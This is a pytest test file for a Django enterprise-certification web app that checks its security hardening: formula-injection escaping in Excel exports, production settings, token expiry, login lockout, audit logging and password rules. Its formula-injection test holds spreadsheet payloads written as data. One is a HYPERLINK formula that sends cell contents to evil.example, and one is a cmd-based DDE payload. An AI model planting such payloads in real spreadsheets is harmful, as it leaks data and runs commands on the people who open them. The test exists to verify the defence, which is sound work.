"""Hardening (issue 9): formula injection in exports, production settings, no-store on personal data and files,
API tokens with an expiry, the lockout, read audit, password validators."""

from __future__ import annotations

import datetime as dt
import io
import os
import secrets
import subprocess
import sys
from decimal import Decimal
from pathlib import Path
from typing import Any

import pytest
from django.test import Client

from gaoqi.web import roles
from tests.web.conftest import CHAOYANG, HAIDIAN, PASSWORD, login

REPO = Path(__file__).resolve().parents[2]


@pytest.fixture()
def fast_hasher(settings: Any) -> None:
    settings.PASSWORD_HASHERS = ["django.contrib.auth.hashers.MD5PasswordHasher"]


def _haidian() -> Any:
    from gaoqi.web.enterprises.models import Enterprise

    e = Enterprise.objects.filter(district_code=HAIDIAN).order_by("uscc").first()
    assert e is not None
    return e


def _certificate(uscc: str) -> Any:
    from gaoqi.web.certification.models import Certificate

    return Certificate.objects.create(
        number="GR202611000001",
        uscc=uscc,
        enterprise_name="测试企业",
        tech_field="电子信息",
        issue_date=dt.date(2025, 12, 1),
        expiry_date=dt.date(2028, 11, 30),
    )


# 1. formula injection ------------------------------------------------------------------------------------------

PAYLOADS = {
    "name": '=HYPERLINK("http://evil.example/?x="&A1,"点击")',
    "industry_code": "@SUM(1)",
    "status": "+cmd|' /C calc'!A0",
    "former_names": "",
}


@pytest.mark.django_db
@pytest.mark.usefixtures("fast_hasher")
def test_export_neutralises_formulas_and_keeps_numbers(users: dict[str, Any]) -> None:
    from openpyxl import load_workbook

    from gaoqi.web.core import labels
    from gaoqi.web.enterprises.models import Enterprise
    from gaoqi.web.enterprises.services import EXPORT_COLUMNS

    e = _haidian()
    Enterprise.objects.filter(pk=e.pk).update(
        name=PAYLOADS["name"], industry_code="@SUM(1)", status="-2+3", staff=Decimal("-5"), sales_last_year=None
    )
    other = Enterprise.objects.filter(district_code=HAIDIAN).exclude(pk=e.pk).order_by("uscc").first()
    assert other is not None
    Enterprise.objects.filter(pk=other.pk).update(name="\t=1+1", status="\r=2", industry_code="+1")
    r = login(users[roles.DISTRICT]).get("/enterprises/export.xlsx")
    assert r.status_code == 200
    ws = load_workbook(io.BytesIO(r.content)).active
    assert ws is not None
    header = [c.value for c in ws[1]]
    col = {field: header.index(label) for field, label in EXPORT_COLUMNS}
    rows = {row[col["uscc"]].value: row for row in ws.iter_rows(min_row=2)}
    mine, theirs = rows[e.uscc], rows[other.uscc]
    # a person reads the district and the industry by name beside their codes
    assert (mine[col["district_code"]].value, mine[col["district_name"]].value) == (HAIDIAN, "海淀区")
    assert theirs[col["industry_name"]].value == labels.industry(other.industry_section) != "—"
    for row, field, original in (
        (mine, "name", PAYLOADS["name"]),
        (mine, "industry_code", "@SUM(1)"),
        (mine, "status", "-2+3"),
        (theirs, "name", "\t=1+1"),
        (theirs, "status", "\r=2"),
        (theirs, "industry_code", "+1"),
    ):
        c = row[col[field]]
        assert c.data_type == "s", (field, c.data_type)  # text, not a formula ("f")
        # (XML stores a carriage return as a line feed: the character after the quote is the original's)
        assert c.value == "'" + original.replace("\r", "\n"), field
    staff = mine[col["staff"]]
    assert staff.data_type == "n" and staff.value == -5  # a negative number stays a number
    # an ordinary name is untouched
    plain = next(r for u, r in rows.items() if u not in (e.uscc, other.uscc))
    assert not str(plain[col["name"]].value).startswith("'")


def test_cell_helper() -> None:
    from gaoqi.web.exports import cell

    for text in ("=1", "+1", "-1", "@x", "\tx", "\rx"):
        assert cell(text) == "'" + text
    assert (
        cell("北京=") == "北京=" and cell(-3) == -3 and cell(Decimal("-1.5")) == Decimal("-1.5") and cell(None) is None
    )


# 2. configuration ----------------------------------------------------------------------------------------------


def _production_env(**extra: str) -> dict[str, str]:
    env = {k: v for k, v in os.environ.items() if not k.startswith(("GAOQI_", "DJANGO_"))}
    env.update(
        PYTHONPATH=str(REPO / "src"),
        GAOQI_HOME=str(REPO / "var" / "deploy-check"),
        GAOQI_SECRET_KEY=secrets.token_urlsafe(48),
        GAOQI_AUDIT_KEY=secrets.token_urlsafe(48),
        GAOQI_ALLOWED_HOSTS="gaoqi.kw.beijing.gov.cn",
    )
    env.update(extra)
    return env


def _manage(env: dict[str, str], *args: str) -> subprocess.CompletedProcess[str]:
    code = "from gaoqi.web.manage import main; main()"
    return subprocess.run(
        [sys.executable, "-c", code, *args], env=env, capture_output=True, text=True, timeout=120, check=False
    )


def test_check_deploy_with_production_settings_is_clean() -> None:
    r = _manage(_production_env(), "check", "--deploy", "--fail-level", "WARNING")
    out = r.stdout + r.stderr
    assert r.returncode == 0, out
    assert "System check identified no issues (0 silenced)." in out, out
    assert "WARNINGS" not in out and "ERRORS" not in out


@pytest.mark.parametrize(
    ("extra", "message"),
    [
        ({"GAOQI_SECRET_KEY": "", "GAOQI_AUDIT_KEY": ""}, "set GAOQI_SECRET_KEY in production"),
        ({"GAOQI_AUDIT_KEY": ""}, "set both GAOQI_SECRET_KEY and GAOQI_AUDIT_KEY"),
        ({"GAOQI_AUDIT_KEY": "", "GAOQI_DEBUG": "1"}, "set both GAOQI_SECRET_KEY and GAOQI_AUDIT_KEY"),
        ({"GAOQI_SECRET_KEY": "short-but-set-0123456789"}, "GAOQI_SECRET_KEY is too short"),
        ({"GAOQI_AUDIT_KEY": "gaoqi-demo-audit-key" + "x" * 40}, "set GAOQI_AUDIT_KEY in production"),
    ],
)
def test_production_refuses_missing_short_or_demo_keys(extra: dict[str, str], message: str) -> None:
    env = {k: v for k, v in _production_env(**extra).items() if v != ""}
    r = _manage(env, "check")
    assert r.returncode != 0
    assert message in r.stderr, r.stderr


def test_debug_is_off_unless_asked_for() -> None:
    code = "import gaoqi.web.settings as s; print(s.DEBUG, s.SESSION_COOKIE_SECURE, s.SECURE_SSL_REDIRECT, s.SECURE_HSTS_SECONDS)"
    r = subprocess.run([sys.executable, "-c", code], env=_production_env(), capture_output=True, text=True, check=False)
    assert r.stdout.split() == ["False", "True", "True", str(365 * 24 * 3600)], r.stderr
    # the demo (make run) says so, and then runs with the demo keys
    env = {
        k: v for k, v in _production_env(GAOQI_DEBUG="1").items() if k not in ("GAOQI_SECRET_KEY", "GAOQI_AUDIT_KEY")
    }
    code = "import gaoqi.web.settings as s; print(s.DEBUG, s.AUDIT_CHAIN_KEY)"
    r = subprocess.run([sys.executable, "-c", code], env=env, capture_output=True, text=True, check=False)
    assert r.stdout.split() == ["True", "gaoqi-demo-audit-key"], r.stderr


def test_makefile_run_is_the_explicit_demo() -> None:
    text = (REPO / "Makefile").read_text()
    assert "run: export GAOQI_DEBUG ?= 1" in text


@pytest.mark.django_db
@pytest.mark.usefixtures("fast_hasher")
def test_no_store_on_personal_data_exports_and_certificates(users: dict[str, Any]) -> None:
    e = _haidian()
    c = login(users[roles.DISTRICT])
    m = login(users[roles.MUNICIPAL])
    cert = _certificate(e.uscc)
    for client, method, url in (
        (c, "get", f"/enterprises/{e.uscc}/"),
        (c, "post", f"/enterprises/{e.uscc}/reveal/"),
        (c, "get", "/enterprises/export.xlsx"),
        (m, "get", f"/certification/certificates/{cert.pk}.pdf"),
    ):
        r = getattr(client, method)(url)
        assert r.status_code == 200, url
        assert "no-store" in r["Cache-Control"], url
    # an ordinary page is not affected
    assert "no-store" not in login(users[roles.DISTRICT]).get("/enterprises/").get("Cache-Control", "")


# 6. password validators ----------------------------------------------------------------------------------------


@pytest.mark.django_db
def test_user_create_and_password_set_run_the_validators(db: Any) -> None:
    from django.core.exceptions import ValidationError

    from gaoqi.web.accounts.models import User
    from gaoqi.web.accounts.services import user_create, user_password_set
    from gaoqi.web.audit.models import AuditEvent

    with pytest.raises(ValidationError) as refused:
        user_create(None, username="weak", password="1", role=roles.EXPERT)
    text = " ".join(refused.value.messages)
    assert "密码" in text and "太短" in text, text
    assert not User.objects.filter(username="weak").exists()
    assert not AuditEvent.objects.filter(action="user.create").exists()
    for weak in ("password123", "12345678901"):  # common, all digits
        with pytest.raises(ValidationError):
            user_create(None, username="weak", password=weak, role=roles.EXPERT)
    user = user_create(None, username="strong", password=PASSWORD, role=roles.EXPERT)
    with pytest.raises(ValidationError):
        user_password_set(user, user, "1")
    user.refresh_from_db()
    assert user.check_password(PASSWORD)
    user_password_set(user, user, "another-good-passphrase")
    user.refresh_from_db()
    assert user.check_password("another-good-passphrase")
    assert AuditEvent.objects.filter(action="user.password_set", target="user:strong").count() == 1


# 4. lockout ----------------------------------------------------------------------------------------------------

OFFICE, ATTACKER, ELSEWHERE = "10.1.1.1", "203.0.113.66", "10.2.2.2"


def _login(client: Any, username: str, password: str) -> int:
    return int(client.post("/accounts/login/", {"username": username, "password": password}).status_code)


@pytest.mark.django_db
@pytest.mark.usefixtures("fast_hasher")
def test_attacker_cannot_lock_the_auditor_out_of_its_known_device(users: dict[str, Any]) -> None:
    from gaoqi.web.audit.models import AuditEvent

    auditor = Client(REMOTE_ADDR=OFFICE)
    assert _login(auditor, "u_auditor", PASSWORD) == 302  # the office machine becomes a known device
    assert "gaoqi_device" in auditor.cookies
    auditor.post("/accounts/logout/")
    attacker = Client(REMOTE_ADDR=ATTACKER)
    codes = [_login(attacker, "u_auditor", f"guess-{i}-password") for i in range(5)]
    assert codes == [200, 200, 200, 200, 429]
    # the account is locked for unknown devices, wherever they are ...
    assert _login(Client(REMOTE_ADDR=ELSEWHERE), "u_auditor", PASSWORD) == 429
    # ... but not on the auditor's own machine
    assert _login(auditor, "u_auditor", PASSWORD) == 302
    assert "_auth_user_id" in auditor.session
    # the auditor's login does not unlock the attacker, even with the right password
    assert _login(attacker, "u_auditor", PASSWORD) == 429
    # a forged device cookie is worth nothing
    forged = Client(REMOTE_ADDR=ELSEWHERE)
    forged.cookies["gaoqi_device"] = "u_auditor"
    assert _login(forged, "u_auditor", PASSWORD) == 429
    locks = AuditEvent.objects.filter(action="login.lockout").order_by("id")
    assert locks.count() == 4  # the 5th guess, the unknown device, the attacker again, the forged cookie
    first = locks[0]
    assert (first.target, first.ip, first.outcome, first.detail["reason"]) == (
        "user:u_auditor",
        ATTACKER,
        "denied",
        "account_address",
    )
    assert [e.ip for e in locks] == [ATTACKER, ELSEWHERE, ATTACKER, ELSEWHERE]
    # one row per request: a locked attempt is not also recorded as a failed login
    assert AuditEvent.objects.filter(action="login", outcome="failure").count() == 4


@pytest.mark.django_db
@pytest.mark.usefixtures("fast_hasher")
def test_many_failures_from_one_address_lock_the_address_not_the_office_at_five(users: dict[str, Any]) -> None:
    from django.conf import settings

    from gaoqi.web.audit.models import AuditEvent

    office = Client(REMOTE_ADDR=OFFICE)
    # one official's five mistakes lock that official at this address, not the colleagues behind the same NAT
    assert [_login(office, "u_district", f"typo-{i}-password") for i in range(5)][-1] == 429
    assert _login(Client(REMOTE_ADDR=OFFICE), "u_municipal", PASSWORD) == 302
    # a sweep over many accounts from one address locks the address
    sweeper = Client(REMOTE_ADDR=ATTACKER)
    limit = settings.AXES_ADDRESS_FAILURE_LIMIT
    codes = [_login(sweeper, f"nobody-{i}", "wrong-password-x") for i in range(limit)]
    assert codes[:-1] == [200] * (limit - 1) and codes[-1] == 429
    assert _login(Client(REMOTE_ADDR=ATTACKER), "u_expert", PASSWORD) == 429
    assert _login(Client(REMOTE_ADDR=ELSEWHERE), "u_expert", PASSWORD) == 302
    lock = AuditEvent.objects.filter(action="login.lockout", ip=ATTACKER).order_by("id").first()
    assert lock is not None and lock.detail["reason"] == "address" and lock.target == f"user:nobody-{limit - 1}"


@pytest.mark.django_db
@pytest.mark.usefixtures("fast_hasher")
def test_the_lock_escalates(users: dict[str, Any]) -> None:
    from axes.models import AccessAttempt

    from gaoqi.web.accounts.lockout import lock_duration

    assert [lock_duration(n, 5).total_seconds() / 60 for n in (4, 5, 9, 10, 15)] == [0, 15, 15, 30, 60]
    assert lock_duration(10_000, 5) == dt.timedelta(days=1)
    c = Client(REMOTE_ADDR=ELSEWHERE)
    for i in range(10):
        _login(c, "u_evaluator", f"wrong-{i}-password")  # 5 failures, then 5 more while locked: 10 in all
    AccessAttempt.objects.update(attempt_time=dt.datetime.now(dt.UTC) - dt.timedelta(minutes=20))
    assert _login(c, "u_evaluator", PASSWORD) == 429  # 10 failures: 30 minutes, not 15
    AccessAttempt.objects.update(attempt_time=dt.datetime.now(dt.UTC) - dt.timedelta(minutes=61))
    assert _login(c, "u_evaluator", PASSWORD) == 302


# 3. API tokens -------------------------------------------------------------------------------------------------


@pytest.mark.django_db
@pytest.mark.usefixtures("fast_hasher")
def test_expired_and_revoked_tokens_are_refused_and_audited(users: dict[str, Any]) -> None:
    from gaoqi.web.accounts.models import ApiToken
    from gaoqi.web.accounts.services import api_token_create, api_token_revoke
    from gaoqi.web.audit.models import AuditEvent

    admin, district = users[roles.SYSADMIN], users[roles.DISTRICT]
    key = api_token_create(admin, district, "统计局系统")
    token = ApiToken.objects.get()
    lifetime = token.expires_at - token.created_at
    assert dt.timedelta(days=89, hours=23) < lifetime <= dt.timedelta(days=90)  # the default: 90 days
    auth = {"Authorization": f"Bearer {key}"}
    assert Client().get("/api/policies", headers=auth).status_code == 200
    ApiToken.objects.update(expires_at=dt.datetime.now(dt.UTC) - dt.timedelta(seconds=1))
    r = Client(REMOTE_ADDR="10.7.7.7").get("/api/policies", headers=auth)
    assert r.status_code == 401 and "过期" in r.json()["error"]["message"]
    assert r.json()["error"]["code"] == "token_expired"
    refused = AuditEvent.objects.filter(action="api.token", outcome="denied").get()
    assert (refused.username, refused.ip, refused.detail["reason"]) == ("u_district", "10.7.7.7", "expired")
    ApiToken.objects.update(expires_at=dt.datetime.now(dt.UTC) + dt.timedelta(days=1))
    assert Client().get("/api/policies", headers=auth).status_code == 200
    api_token_revoke(admin, token)
    r = Client().get("/api/policies", headers=auth)
    assert r.status_code == 401 and "吊销" in r.json()["error"]["message"]
    reasons = list(
        AuditEvent.objects.filter(action="api.token").order_by("id").values_list("detail__reason", flat=True)
    )
    assert reasons == ["expired", "revoked"]
    assert Client().get("/api/policies", headers={"Authorization": "Bearer nonsense"}).status_code == 401
    assert AuditEvent.objects.filter(action="api.token").last().detail["reason"] == "unknown"  # type: ignore[union-attr]
    # a chosen lifetime, within bounds
    api_token_create(admin, district, "短期", days=7)
    assert ApiToken.objects.filter(name="短期").get().expires_at < dt.datetime.now(dt.UTC) + dt.timedelta(
        days=7, minutes=1
    )
    for bad in (0, 367):
        with pytest.raises(ValueError):
            api_token_create(admin, district, "x", days=bad)


@pytest.mark.django_db
@pytest.mark.usefixtures("fast_hasher")
def test_token_page_issues_once_lists_and_revokes(users: dict[str, Any]) -> None:
    from gaoqi.web.accounts.models import ApiToken
    from gaoqi.web.audit.models import AuditEvent

    admin = Client(enforce_csrf_checks=True)
    admin.force_login(users[roles.SYSADMIN])
    page = admin.get("/accounts/tokens/")
    assert page.status_code == 200 and "签发令牌" in page.content.decode()
    csrf = admin.cookies["csrftoken"].value
    # without the CSRF token the form is refused
    assert admin.post("/accounts/tokens/new/", {"username": "u_municipal", "name": "x"}).status_code == 403
    assert not ApiToken.objects.exists()
    r = admin.post(
        "/accounts/tokens/new/",
        {"username": "u_municipal", "name": "财政局接口", "days": "30"},
        headers={"X-CSRFToken": csrf},
    )
    assert r.status_code == 200 and "no-store" in r["Cache-Control"]
    html = r.content.decode()
    token = ApiToken.objects.get()
    key = html.split('<div class="notice" id="issued">')[1].split("<code>")[1].split("</code>")[0]
    assert len(key) >= 40 and token.key_hash not in html
    assert Client().get("/api/policies", headers={"Authorization": f"Bearer {key}"}).status_code == 200
    # the list never shows the key again
    listing = admin.get("/accounts/tokens/").content.decode()
    assert "财政局接口" in listing and "u_municipal" in listing and key not in listing and token.key_hash not in listing
    assert "有效" in listing
    r = admin.post(f"/accounts/tokens/{token.pk}/revoke/", headers={"X-CSRFToken": csrf})
    assert r.status_code == 302
    token.refresh_from_db()
    assert token.revoked_at is not None and token.revoked_by == "u_sysadmin"
    assert "已吊销" in admin.get("/accounts/tokens/").content.decode()
    assert Client().get("/api/policies", headers={"Authorization": f"Bearer {key}"}).status_code == 401
    created = AuditEvent.objects.get(action="api_token.create")
    assert (created.username, created.target, created.detail["days"]) == ("u_sysadmin", "user:u_municipal", 30)
    assert AuditEvent.objects.filter(action="api_token.revoke", username="u_sysadmin").count() == 1
    # bad input is refused with a Chinese message, nothing issued
    r = admin.post(
        "/accounts/tokens/new/", {"username": "u_municipal", "name": "y", "days": "0"}, headers={"X-CSRFToken": csrf}
    )
    assert r.status_code == 400 and "有效期" in r.content.decode()
    assert ApiToken.objects.count() == 1
    # only the system administrator
    for role in set(roles.ROLES) - {roles.SYSADMIN}:
        assert login(users[role]).get("/accounts/tokens/").status_code == 403, role


# 5. audit of refusals and reads --------------------------------------------------------------------------------

IP = "10.30.40.50"


def _rows(**filters: Any) -> list[Any]:
    from gaoqi.web.audit.models import AuditEvent

    return list(AuditEvent.objects.filter(**filters).order_by("id"))


@pytest.mark.django_db
@pytest.mark.usefixtures("fast_hasher")
def test_refusals_are_audited(users: dict[str, Any]) -> None:
    from gaoqi.web.enterprises.models import Enterprise

    expert = login(users[roles.EXPERT])
    expert.defaults["REMOTE_ADDR"] = IP
    assert expert.get("/enterprises/").status_code == 403
    (denied,) = _rows(action="access.denied")
    assert (denied.username, denied.role, denied.ip, denied.outcome, denied.target) == (
        "u_expert",
        roles.EXPERT,
        IP,
        "denied",
        "url:enterprises:directory",
    )
    assert denied.detail == {"reason": "role", "method": "GET", "path": "/enterprises/"}
    # an enterprise of another district: 404, recorded with the fact that it exists (outside the jurisdiction)
    chaoyang = Enterprise.objects.filter(district_code=CHAOYANG).order_by("uscc").first()
    assert chaoyang is not None
    district = login(users[roles.DISTRICT])
    district.defaults["REMOTE_ADDR"] = IP
    assert district.get(f"/enterprises/{chaoyang.uscc}/").status_code == 404
    assert district.post(f"/enterprises/{chaoyang.uscc}/reveal/").status_code == 404
    assert district.get(f"/api/enterprises/{chaoyang.uscc}").status_code == 404
    assert district.get("/enterprises/911100000000000000/").status_code == 404
    rows = _rows(action="access.not_found")
    assert [(r.username, r.ip, r.outcome, r.target, r.detail["exists"]) for r in rows] == [
        ("u_district", IP, "denied", f"uscc:{chaoyang.uscc}", True),
        ("u_district", IP, "denied", f"uscc:{chaoyang.uscc}", True),
        ("u_district", IP, "denied", f"uscc:{chaoyang.uscc}", True),
        ("u_district", IP, "denied", "uscc:911100000000000000", False),
    ]
    assert not _rows(action="personal.reveal")  # nothing was revealed, nothing else recorded


@pytest.mark.django_db
@pytest.mark.usefixtures("fast_hasher")
def test_csrf_failure_is_audited_and_explained_in_chinese(users: dict[str, Any]) -> None:
    e = _haidian()
    c = Client(enforce_csrf_checks=True, REMOTE_ADDR=IP)
    c.force_login(users[roles.DISTRICT])
    r = c.post(f"/enterprises/{e.uscc}/reveal/")
    assert r.status_code == 403 and "请求校验失败" in r.content.decode()
    (row,) = _rows(action="csrf.failure")
    assert (row.username, row.ip, row.outcome, row.target) == (
        "u_district",
        IP,
        "denied",
        f"path:/enterprises/{e.uscc}/reveal/",
    )
    assert row.detail["method"] == "POST" and "CSRF" in row.detail["reason"]
    anon = Client(enforce_csrf_checks=True, REMOTE_ADDR=IP)
    assert anon.post("/accounts/login/", {"username": "u_district", "password": PASSWORD}).status_code == 403
    assert [(r.username, r.target) for r in _rows(action="csrf.failure")][1] == ("", "path:/accounts/login/")
    assert not _rows(action="personal.reveal") and not _rows(action="login", outcome="failure")


@pytest.mark.django_db
@pytest.mark.usefixtures("fast_hasher")
def test_reads_are_audited_once_per_request(users: dict[str, Any]) -> None:
    from gaoqi.web.accounts.services import api_token_create
    from gaoqi.web.audit.models import AuditEvent

    e = _haidian()
    district = login(users[roles.DISTRICT])
    district.defaults["REMOTE_ADDR"] = IP
    before = AuditEvent.objects.count()
    assert district.get(f"/enterprises/{e.uscc}/").status_code == 200
    (view,) = _rows(action="enterprise.view")
    assert (view.username, view.role, view.ip, view.target, view.outcome) == (
        "u_district",
        roles.DISTRICT,
        IP,
        f"enterprise:{e.uscc}",
        "success",
    )
    # a reveal and an export are recorded by their services: one row each, no second "read" row
    assert district.post(f"/enterprises/{e.uscc}/reveal/").status_code == 200
    assert district.get("/enterprises/export.xlsx").status_code == 200
    assert AuditEvent.objects.count() == before + 3
    # an ordinary list page is not a personal-data read
    assert district.get("/enterprises/").status_code == 200
    assert AuditEvent.objects.count() == before + 3
    # certificate downloads
    cert = _certificate(e.uscc)
    municipal = login(users[roles.MUNICIPAL])
    assert municipal.get(f"/certification/certificates/{cert.pk}.pdf").status_code == 200
    (dl,) = _rows(action="certificate.download")
    assert (dl.username, dl.target) == ("u_municipal", f"certificate:{cert.pk}")
    # API reads, by session and by token
    assert district.get("/api/enterprises", {"q": "科技"}).status_code == 200
    key = api_token_create(users[roles.SYSADMIN], users[roles.MUNICIPAL], "统计局")
    assert (
        Client(REMOTE_ADDR="10.8.8.8")
        .get(f"/api/enterprises/{e.uscc}", headers={"Authorization": f"Bearer {key}"})
        .status_code
        == 200
    )
    reads = _rows(action="api.read")
    assert [(r.username, r.target, r.ip) for r in reads] == [
        ("u_district", "url:api:enterprise_search", IP),
        ("u_municipal", "url:api:enterprise_profile", "10.8.8.8"),
    ]
    assert reads[0].detail["query"] == "q=%E7%A7%91%E6%8A%80" and "token" in reads[1].detail
